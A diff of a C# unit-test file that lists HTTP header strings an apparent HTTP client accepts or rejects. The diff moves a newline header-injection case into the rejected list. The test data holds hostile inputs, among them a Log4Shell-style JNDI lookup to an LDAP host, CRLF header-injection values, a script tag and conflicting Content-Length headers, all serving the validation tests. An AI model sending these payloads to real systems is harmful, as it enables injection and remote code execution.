@@ -33,11 +33,11 @@ public sealed class DoorTrickTests(BothDialects both) : IClassFixture<BothDialec
         "Cookie: a=b\r\nCookie: c=d", "Authorization: Bearer x", "traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01\r\ntracestate: a=b\r\nbaggage: a=b",
         "Range: bytes=0-0", "If-None-Match: *", "Accept-Encoding: gzip", "Content-Encoding: gzip", "Content-Type: multipart/form-data; boundary=x", "X-Bytes: \u0001\u007F\u00FF",
         "User-Agent: ", "User-Agent: a\u0001b", "User-Agent: a\tb", "User-Agent: a\u007Fb", "User-Agent: \r\nUser-Agent: second", "Accept-Language: ${jndi:ldap://203.0.113.9/a}",
-        "Accept-Language: sv\u00E5", "Accept-Language: sv\"", "Accept-Language: <script>", "X-A: b\nX-Injected: c",
+        "Accept-Language: sv\u00E5", "Accept-Language: sv\"", "Accept-Language: <script>",
     ]);
 
     public static MatrixTheoryData<string, string> HeadersOfNoRequest => new(BothDialects.Names, [
-        "User-Agent: a\u0000b", "User-Agent: a\rX-Injected: b", "User-Agent: a\r\n folded", "User-Agent : space before the colon", "X Y: z", ": z", "X-\u00E5: z", "Host: second.example",
+        "User-Agent: a\u0000b", "User-Agent: a\rX-Injected: b", "X-A: b\nX-Injected: c", "User-Agent: a\r\n folded", "User-Agent : space before the colon", "X Y: z", ": z", "X-\u00E5: z", "Host: second.example",
         "Content-Length: 0\r\nContent-Length: 5", "Content-Length: 5, 5", "Content-Length: -1", "Transfer-Encoding: identity", "Transfer-Encoding: chunked, identity",
     ]);
 
